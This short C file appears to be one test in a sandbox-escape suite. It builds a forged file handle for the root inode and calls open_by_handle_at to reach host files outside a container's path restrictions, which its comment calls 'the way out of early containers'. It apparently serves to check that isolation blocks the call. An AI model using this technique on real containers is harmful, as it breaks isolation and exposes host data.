// SPDX-License-Identifier: MIT
// Opens a file by its handle, past all paths (open_by_handle_at(2)): the way out of early containers.
#include "attack.h"

static void attack(void) {
  struct {
    struct file_handle handle;
    unsigned char bytes[MAX_HANDLE_SZ];
  } file = {.handle = {.handle_bytes = 8, .handle_type = 1}};
  int mount = 0;
  told("name", name_to_handle_at(AT_FDCWD, "/usr", &file.handle, &mount, 0));
  file.handle.handle_bytes = 8;
  file.bytes[0] = 2;  // of many file systems the inode of the root
  const int directory = open("/usr", O_RDONLY | O_DIRECTORY);
  told("open", open_by_handle_at(directory, &file.handle, O_RDONLY));
}
